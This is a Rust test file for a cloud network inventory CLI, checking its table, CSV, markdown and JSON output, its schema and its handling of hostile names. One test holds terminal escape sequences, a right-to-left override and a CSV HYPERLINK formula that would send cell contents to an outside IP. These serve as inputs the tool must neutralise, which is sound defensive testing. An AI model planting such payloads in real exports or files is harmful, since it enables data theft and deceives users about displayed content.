//! Every kind in every format, the terminal's width, and the document's schema.

use netcensus::model::Kind;
use serde_json::Value;

use crate::support::{Cloud, Home, compare, netcensus, sample_document};

#[test]
fn the_default_table_fits_the_terminal_and_says_what_it_left_out() {
    let home = Home::new();
    home.write("sample.json", sample_document());
    for (width, scan) in [("80", "scan --sandbox"), ("200", "scan --from sample.json")] {
        let output = home.netcensus(scan).env("COLUMNS", width).run().succeeds();
        compare(&format!("tests/golden/scan/default.{width}.table"), &output.stdout);
    }
}

#[test]
fn a_pipe_has_no_width() {
    let home = Home::new();
    home.write("sample.json", sample_document());
    let output = home.netcensus("scan --from sample.json").without("COLUMNS").run().succeeds();
    let wide = home.netcensus("scan --from sample.json").env("COLUMNS", "1000").run().succeeds();
    assert_eq!(output.stdout, wide.stdout);
}

/// What the account shop-prod has in me-central-1.
const ROWS: [(Kind, usize); 5] =
    [(Kind::Networks, 1), (Kind::Subnets, 2), (Kind::Instances, 1), (Kind::Interfaces, 1), (Kind::Links, 0)];

#[test]
fn every_kind_comes_in_every_format() {
    let cloud = Cloud::sample(&[]);
    let scan = |what: &str, format: &str| {
        let arguments = format!("scan {what} --aws-profile shop-prod --region me-central-1 -o {format}");
        cloud.netcensus(&arguments).run().succeeds()
    };
    for (kind, rows) in ROWS {
        let text = |format| scan(kind.as_str(), format).stdout;
        let table = text("table");
        assert_eq!(table.contains("(none)"), rows == 0, "{table}");
        let lines = table.lines().take_while(|line| !line.starts_with("... no room for"));
        assert_eq!(lines.count(), 1 + rows.max(1), "{table}");
        let csv = text("csv");
        let mut reader = csv::Reader::from_reader(csv.as_bytes());
        assert!(reader.headers().unwrap().iter().any(|name| name == "id"), "{csv}");
        assert_eq!(reader.records().map(Result::unwrap).count(), rows, "{csv}");
        let markdown = text("markdown");
        assert_eq!(markdown.lines().filter(|line| line.starts_with('|')).count(), 2 + rows, "{markdown}");
        assert_eq!(scan(kind.as_str(), "json").json()[kind.as_str()].as_array().unwrap().len(), rows);
        assert_eq!(records(&text("ndjson")), vec![kind.singular(); rows]);
    }
}

#[test]
fn all_kinds_come_in_every_format_that_has_room() {
    let cloud = Cloud::sample(&[]);
    let scan = |format: &str| {
        let arguments = format!("scan all --aws-profile shop-prod --region me-central-1 -o {format}");
        cloud.netcensus(&arguments).run().succeeds()
    };
    let (table, markdown, document) = (scan("table").stdout, scan("markdown").stdout, scan("json").json());
    for (kind, rows) in ROWS {
        assert!(table.contains(&format!("{kind} ({rows})\n")), "{table}");
        assert!(markdown.to_lowercase().contains(kind.as_str()), "{markdown}");
        assert_eq!(document[kind.as_str()].as_array().unwrap().len(), rows);
    }
    assert_eq!(records(&scan("ndjson").stdout), ["network", "subnet", "subnet", "instance", "interface"]);
}

/// Lists what the lines of NDJSON say they are.
fn records(text: &str) -> Vec<String> {
    let record = |line| serde_json::from_str::<Value>(line).unwrap()["record"].as_str().unwrap().to_owned();
    text.lines().map(record).collect()
}

#[test]
fn csv_of_all_kinds_is_refused_before_anything_is_asked() {
    let cloud = Cloud::sample(&[]);
    cloud.netcensus("scan all -o csv").run().refuses(&["csv", "name one kind", "json"]);
    assert_eq!(cloud.requests(), []);
}

#[test]
fn the_document_is_what_the_schema_says() {
    let document: Value = serde_json::from_str(sample_document()).unwrap();
    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/docs/schema/inventory-v2.schema.json");
    let mut compiler = boon::Compiler::new();
    compiler.enable_format_assertions();
    let mut schemas = boon::Schemas::new();
    let schema = compiler.compile(path, &mut schemas).unwrap();
    schemas.validate(&document, schema).unwrap_or_else(|error| panic!("{error}"));
    for kind in Kind::ALL {
        assert!(!document[kind.as_str()].as_array().unwrap().is_empty(), "the sample has {kind}");
    }
    assert_eq!(document["accounts"].as_array().unwrap().len(), 13, "8 accounts, 5 subscriptions");
}

#[test]
fn what_nobody_asked_for_is_skipped_and_not_none() {
    let document =
        netcensus("scan subnets --sandbox --provider aws --aws-profile security -o json").succeeds().json();
    assert_eq!(document["instances"], Value::Array(Vec::new()));
    let coverage = document["coverage"].as_array().unwrap();
    let outcomes = |kind: &str| -> Vec<&str> {
        let of_kind = coverage.iter().filter(|entry| entry["kind"] == kind);
        of_kind.map(|entry| entry["outcome"].as_str().unwrap()).collect()
    };
    assert_eq!(outcomes("subnets"), ["complete"; 4]);
    for kind in ["networks", "instances", "interfaces", "links"] {
        assert_eq!(outcomes(kind), ["skipped"], "{kind}");
    }
}

#[test]
fn one_estate_gives_the_same_bytes_at_any_concurrency() {
    let masked = |document: &str| -> Vec<String> {
        let varies = |line: &&str| {
            let field = line.trim_start();
            ["\"taken_at\"", "\"duration_ms\"", "\"requests\""].iter().any(|name| field.starts_with(name))
        };
        document.lines().filter(|line| !varies(line)).map(str::to_owned).collect()
    };
    let first = masked(sample_document());
    assert!(first.len() > 1000);
    assert_eq!(first, masked(&netcensus("scan all --sandbox -o json --concurrency 3").succeeds().stdout));
}

#[test]
fn hostile_names_are_escaped_in_tables_and_exact_in_json() {
    let scope = "scan networks --sandbox --provider aws --aws-profile sandbox-dev --region us-east-1 --filter cidrs=10.10.*";
    let note = "\u{9b}31mred\u{9b}0m \u{202e}evil";
    let table = netcensus(&format!("{scope} --columns name,tag:Note")).succeeds().stdout;
    assert!(table.contains(r"\u{9b}31mred\u{9b}0m \u{202e}evil"), "{table}");
    assert!(!table.contains(['\u{9b}', '\u{202e}', '\u{1b}']));
    let document = netcensus(&format!("{scope} -o json")).succeeds();
    assert_eq!(document.json()["networks"][0]["tags"]["Note"], note);
    assert!(!document.stdout.contains(['\u{9b}', '\u{202e}', '\u{1b}']), "exact, and yet printable");
    let csv = netcensus(&format!("{scope} -o csv --columns name")).succeeds().stdout;
    assert_eq!(csv, "name\n\"'=HYPERLINK(\"\"http://203.0.113.9/?\"\"&A1,\"\"x\"\")\"\n");
}
